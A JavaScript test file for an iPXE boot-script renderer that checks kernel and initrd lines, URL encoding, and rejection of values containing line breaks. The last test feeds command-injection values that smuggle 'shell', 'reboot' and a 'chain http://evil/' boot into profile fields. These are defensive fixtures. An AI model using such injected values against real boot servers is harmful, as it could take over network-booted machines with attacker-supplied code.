import { test } from 'node:test';
import assert from 'node:assert/strict';
import { renderIpxeScript } from './render-ipxe.js';

const base = { mac: '52:54:00:00:00:01', profileName: 'default', httpBase: 'http://198.18.0.2:8080' };

test('render: kernel, initrd and command line with initrd= for the EFI stub', () => {
  const r = renderIpxeScript({ ...base, profile: { kernel: 'vmlinuz', initrd: ['initrd.img'], cmdline: 'console=ttyS0 quiet' } });
  assert.ok(r.ok);
  assert.equal(
    r.script,
    [
      '#!ipxe',
      '# bootfleet: profile default for 52:54:00:00:00:01',
      'kernel http://198.18.0.2:8080/vmlinuz initrd=initrd.img console=ttyS0 quiet',
      'initrd http://198.18.0.2:8080/initrd.img',
      'boot',
      '',
    ].join('\n'),
  );
});

test('render: absolute URLs are kept, relative paths are percent-encoded', () => {
  const r = renderIpxeScript({ ...base, profile: { kernel: 'http://10.9.9.9/k', initrd: ['a dir/in it.img'], cmdline: '' } });
  assert.ok(r.ok);
  assert.match(r.script, /^kernel http:\/\/10\.9\.9\.9\/k initrd=in it\.img$/m);
  assert.match(r.script, /^initrd http:\/\/198\.18\.0\.2:8080\/a%20dir\/in%20it\.img$/m);
});

test('render: a line break in any value is refused, not rendered', () => {
  for (const profile of [
    { kernel: 'vmlinuz\nshell', initrd: [], cmdline: '' },
    { kernel: 'vmlinuz', initrd: ['x\r\nreboot'], cmdline: '' },
    { kernel: 'vmlinuz', initrd: [], cmdline: 'quiet\nchain http://evil/' },
  ]) {
    const r = renderIpxeScript({ ...base, profile });
    assert.equal(r.ok, false);
  }
});
